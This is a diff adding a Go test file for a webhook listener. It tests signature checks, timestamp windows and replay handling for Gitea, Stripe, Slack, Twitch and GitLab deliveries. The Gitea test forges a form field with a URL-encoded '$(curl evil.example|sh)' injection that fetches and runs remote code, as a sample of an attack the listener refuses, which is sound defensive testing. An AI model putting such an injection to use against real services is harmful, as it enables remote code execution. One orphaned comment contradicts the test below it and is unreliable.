@@ -1,0 +1,198 @@
+package listener
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"net/url"
+	"strconv"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/webhookd/webhookd/internal/stdwh"
+	"github.com/webhookd/webhookd/store"
+	"github.com/webhookd/webhookd/tmpl"
+)
+
+// edgeHook is a hook of provider config c at /hooks/id.
+func edgeHook(t *testing.T, id string, c ProviderConfig) *Hook {
+	t.Helper()
+	return &Hook{ID: id, Path: "/hooks/" + id, Provider: mustProvider(t, c), MaxBody: 1 << 20}
+}
+
+// TestGitea_FormHoldsPayloadAlone: Gitea's signature covers the form's
+// payload field only, so a form with any other field is refused; else a
+// captured delivery with fields added would reach templates and commands
+// as its payload.
+func TestGitea_FormHoldsPayloadAlone(t *testing.T) {
+	const secret = "gitea-secret"
+	h := edgeHook(t, "gitea", ProviderConfig{Name: "gitea", Secrets: [][]byte{[]byte(secret)}})
+	var mu sync.Mutex
+	var seen []any
+	h.Plan = func(d *tmpl.Data) []store.NewJob {
+		mu.Lock()
+		seen = append(seen, d.Payload())
+		mu.Unlock()
+		return nil
+	}
+	e := newEnv(t, h)
+
+	// A genuine delivery, captured: payload=<JSON>, signed over the JSON.
+	signedJSON := `{"ref":"refs/heads/dev","after":"1111111"}`
+	m := hmac.New(sha256.New, []byte(secret))
+	m.Write([]byte(signedJSON))
+	sig := hex.EncodeToString(m.Sum(nil))
+
+	// The attacker appends fields of their own choosing.
+	forged := "ref=refs%2Fheads%2Fmain&after=%24%28curl+evil.example%7Csh%29&payload=" + url.QueryEscape(signedJSON)
+	r := e.post("POST", "/hooks/gitea", []byte(forged), map[string]string{
+		"Content-Type":      "application/x-www-form-urlencoded",
+		"X-Gitea-Event":     "push",
+		"X-Gitea-Delivery":  "forged-1",
+		"X-Gitea-Signature": sig,
+	})
+	if r.status != 401 {
+		mu.Lock()
+		defer mu.Unlock()
+		t.Fatalf("form with unsigned extra fields = %d %v; want 401. Actions saw .payload = %#v", r.status, r.body, seen)
+	}
+}
+
+// TestWindow_FarFuture: a signed timestamp centuries ahead is outside
+// every provider's window (a Duration holds only 292 years: the difference
+// wrapped into the window).
+func TestWindow_FarFuture(t *testing.T) {
+	const secret = "whsec_stripe_test"
+	cases := []string{"99999999999", "9999999999999"} // year 5138, year 318857
+	for _, ts := range cases {
+		t.Run("stripe t="+ts, func(t *testing.T) {
+			e := newEnv(t, edgeHook(t, "pay", ProviderConfig{Name: "stripe", Secrets: [][]byte{[]byte(secret)}}))
+			body := []byte(`{"id":"evt_` + ts + `","type":"charge.succeeded","object":"event"}`)
+			m := hmac.New(sha256.New, []byte(secret))
+			m.Write([]byte(ts + "." + string(body)))
+			r := e.post("POST", "/hooks/pay", body, map[string]string{
+				"Content-Type":     "application/json",
+				"Stripe-Signature": "t=" + ts + ",v1=" + hex.EncodeToString(m.Sum(nil)),
+			})
+			if r.status != 401 {
+				t.Fatalf("Stripe t=%s (now %d) = %d %v; want 401 (outside the 5 min window)", ts, time.Now().Unix(), r.status, r.body)
+			}
+		})
+	}
+	t.Run("slack", func(t *testing.T) {
+		const secret = "8f742231b10e8888abcd99yyyzzz85a5"
+		e := newEnv(t, edgeHook(t, "slack", ProviderConfig{Name: "slack", Secrets: [][]byte{[]byte(secret)}}))
+		ts := "99999999999"
+		body := []byte(`{"type":"event_callback","event_id":"Ev1","event":{"type":"app_mention"}}`)
+		m := hmac.New(sha256.New, []byte(secret))
+		m.Write([]byte("v0:" + ts + ":" + string(body)))
+		r := e.post("POST", "/hooks/slack", body, map[string]string{
+			"Content-Type":              "application/json",
+			"X-Slack-Request-Timestamp": ts,
+			"X-Slack-Signature":         "v0=" + hex.EncodeToString(m.Sum(nil)),
+		})
+		if r.status != 401 {
+			t.Fatalf("Slack ts=%s = %d %v; want 401 (outside the 5 min window)", ts, r.status, r.body)
+		}
+	})
+	t.Run("twitch", func(t *testing.T) {
+		const secret = "twitch-secret"
+		e := newEnv(t, edgeHook(t, "tw", ProviderConfig{Name: "twitch", Secrets: [][]byte{[]byte(secret)}}))
+		id, ts := "msg-1", "9999-01-01T00:00:00Z"
+		body := []byte(`{"subscription":{"type":"channel.follow"}}`)
+		m := hmac.New(sha256.New, []byte(secret))
+		m.Write([]byte(id + ts + string(body)))
+		r := e.post("POST", "/hooks/tw", body, map[string]string{
+			"Content-Type":                      "application/json",
+			"Twitch-Eventsub-Message-Id":        id,
+			"Twitch-Eventsub-Message-Timestamp": ts,
+			"Twitch-Eventsub-Message-Type":      "notification",
+			"Twitch-Eventsub-Subscription-Type": "channel.follow",
+			"Twitch-Eventsub-Message-Signature": "sha256=" + hex.EncodeToString(m.Sum(nil)),
+		})
+		if r.status != 401 {
+			t.Fatalf("Twitch ts=%s = %d %v; want 401 (outside the 10 min window)", ts, r.status, r.body)
+		}
+	})
+	t.Run("inWindow", func(t *testing.T) {
+		now := time.Unix(1700000000, 0)
+		if err := inWindow("t", time.Unix(99999999999, 0), now, 5*time.Minute); err == nil {
+			t.Errorf("inWindow(year 5138, now 2023, 5m) = nil; want ErrStale")
+		}
+	})
+}
+
+// TestGitLab_SignedDeliveryID: a request verified by its signature is
+// de-duplicated by the signed webhook-id, so that a replay within the
+// window with a new Idempotency-Key is still a duplicate.
+func TestGitLab_SignedDeliveryID(t *testing.T) {
+	secret := "whsec_" + base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef"))
+	e := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte(secret)}}))
+	body := []byte(`{"object_kind":"push","ref":"refs/heads/main"}`)
+	id := "8d3c1a4e-0000-4000-8000-000000000001"
+	ts := time.Now().Unix()
+	hdr := map[string]string{
+		"Content-Type":        "application/json",
+		"X-Gitlab-Event":      "Push Hook",
+		"X-Gitlab-Event-UUID": id,
+		"Idempotency-Key":     id,
+		"Webhook-Id":          id,
+		"Webhook-Timestamp":   strconv.FormatInt(ts, 10),
+		"Webhook-Signature":   "v1," + stdwh.Signature(stdwh.Key([]byte(secret)), id, ts, body),
+	}
+	first := e.post("POST", "/hooks/gl", body, hdr)
+	if first.status != 202 {
+		t.Fatalf("genuine delivery = %d %v; want 202", first.status, first.body)
+	}
+	// Replay: same signed headers and body, only the unsigned key changed.
+	hdr["Idempotency-Key"] = "replay-2"
+	again := e.post("POST", "/hooks/gl", body, hdr)
+	if again.status != 200 || again.body["duplicate"] != true {
+		t.Fatalf("replay with a new Idempotency-Key = %d %v; want 200 duplicate of %v (webhook-id %s is signed and unchanged)", again.status, again.body, first.body["id"], id)
+	}
+}
+
+// TestGitLab_TokenAndSigning), so that a replayed request is refused; but
+// an hour-old signed delivery replayed with its webhook-* headers removed
+// is accepted on X-Gitlab-Token alone, and stored again.
+// TestGitLab_TokenFallback: an unsigned request needs the secret token. A
+// hook with both a token and a signing token accepts it (GitLab's side may
+// not sign yet), but never a stale signed request; a hook with signing
+// tokens alone refuses every unsigned request, even one that sends the
+// signing token as its token.
+func TestGitLab_TokenFallback(t *testing.T) {
+	signingSecret := "whsec_" + base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef"))
+	body := []byte(`{"object_kind":"push","ref":"refs/heads/main"}`)
+	id := "8d3c1a4e-0000-4000-8000-000000000002"
+	ts := time.Now().Add(-time.Hour).Unix()
+	stale := map[string]string{
+		"Content-Type":        "application/json",
+		"X-Gitlab-Event":      "Push Hook",
+		"X-Gitlab-Token":      "the-token",
+		"X-Gitlab-Event-UUID": id,
+		"Idempotency-Key":     id,
+		"Webhook-Id":          id,
+		"Webhook-Timestamp":   strconv.FormatInt(ts, 10),
+		"Webhook-Signature":   "v1," + stdwh.Signature(stdwh.Key([]byte(signingSecret)), id, ts, body),
+	}
+	unsigned := func(token string) map[string]string {
+		return map[string]string{"Content-Type": "application/json", "X-Gitlab-Event": "Push Hook", "X-Gitlab-Token": token, "X-Gitlab-Event-UUID": token + "-1"}
+	}
+
+	both := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte("the-token"), []byte(signingSecret)}}))
+	if r := both.post("POST", "/hooks/gl", body, stale); r.status != 401 {
+		t.Errorf("token and signing token, an hour-old signed request with the token = %d %v; want 401", r.status, r.body)
+	}
+	if r := both.post("POST", "/hooks/gl", body, unsigned("the-token")); r.status != 202 {
+		t.Errorf("token and signing token, an unsigned request with the token = %d %v; want 202", r.status, r.body)
+	}
+
+	signingOnly := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte(signingSecret)}}))
+	for _, token := range []string{"the-token", signingSecret} {
+		if r := signingOnly.post("POST", "/hooks/gl", body, unsigned(token)); r.status != 401 {
+			t.Errorf("signing token alone, an unsigned request with token %.9s… = %d %v; want 401", token, r.status, r.body)
+		}
+	}
+}
